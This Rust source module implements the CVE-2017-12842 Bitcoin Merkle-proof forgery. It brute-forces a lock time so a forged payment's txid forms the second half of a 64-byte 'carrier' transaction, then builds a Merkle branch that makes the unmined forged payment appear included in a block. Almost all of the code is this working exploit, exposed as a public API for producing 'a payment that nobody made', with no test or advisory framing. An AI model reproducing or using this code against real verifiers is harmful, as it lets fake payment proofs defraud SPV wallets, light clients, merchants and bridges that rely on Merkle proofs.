//! A transaction of 64 bytes whose second half is the id of another one, so that a branch to the first can be drawn out to
//! the second, which is in no block (CVE-2017-12842).

use bitcoin::absolute::LockTime;
use bitcoin::consensus::encode::{deserialize, serialize};
use bitcoin::hashes::{Hash, HashEngine, sha256, sha256d};
use bitcoin::transaction::Version;
use bitcoin::{Amount, OutPoint, ScriptBuf, Sequence, Transaction, TxIn, TxOut, Txid, Witness};

/// The two transactions.
pub struct Forgery {
    /// Has 64 bytes, and stands in a block.
    pub carrier: Transaction,
    /// Stands in no block.
    pub forged: Transaction,
    /// The first half of the carrier's bytes: what a forger gives as the sibling.
    pub first_half: [u8; 32],
}

impl Forgery {
    /// A payment that nobody made. Its lock time is looked for from `hint` on, so that its id can be half a transaction; that
    /// takes seconds where the hint is another payment's.
    pub fn paying(script: ScriptBuf, sat: u64, hint: u32) -> Self {
        let mut forged = Transaction {
            version: Version::TWO,
            lock_time: LockTime::ZERO,
            input: vec![TxIn {
                previous_output: OutPoint::new(Txid::from_byte_array([7; 32]), 0),
                script_sig: ScriptBuf::new(),
                sequence: Sequence::MAX,
                witness: Witness::new(),
            }],
            output: vec![TxOut {
                value: Amount::from_sat(sat),
                script_pubkey: script,
            }],
        };
        let bytes = serialize(&forged);
        let mut engine = sha256::Hash::engine();
        engine.input(&bytes[..bytes.len() - 4]);
        let is_half = |time: &u32| {
            let mut engine = engine.clone();
            engine.input(&time.to_le_bytes());
            let id = sha256::Hash::hash(sha256::Hash::from_engine(engine).as_byte_array());
            is_second_half(id.as_byte_array())
        };
        let time = (hint..u32::MAX).chain(0..hint).find(is_half);
        forged.lock_time = LockTime::from_consensus(time.expect("one in three million"));
        // Version 2 and one input, that spends from a transaction whose id begins with these bytes.
        let mut first_half = [0x11; 32];
        first_half[..5].copy_from_slice(&[2, 0, 0, 0, 1]);
        let id = forged.compute_txid().to_byte_array();
        let carrier: Transaction = deserialize(&[first_half, id].concat()).expect("a transaction");
        assert_eq!(carrier.base_size(), 64);
        Self {
            carrier,
            forged,
            first_half,
        }
    }

    /// The branch of the carrier, drawn out: position and siblings.
    pub fn branch(&self, position: u32, siblings: &[sha256d::Hash]) -> (u32, Vec<sha256d::Hash>) {
        let first = sha256d::Hash::from_byte_array(self.first_half);
        let siblings = [first].into_iter().chain(siblings.iter().copied());
        (2 * position + 1, siblings.collect())
    }
}

/// Whether 32 bytes can be the second half of a transaction with one input and one output: the end of an outpoint, an
/// unlocking script, a sequence, the number of outputs, a value, a script of what is left of four bytes, a lock time.
fn is_second_half(bytes: &[u8; 32]) -> bool {
    let unlocking = usize::from(bytes[9]);
    unlocking <= 4
        && bytes[14 + unlocking] == 1
        && usize::from(bytes[23 + unlocking]) == 4 - unlocking
}
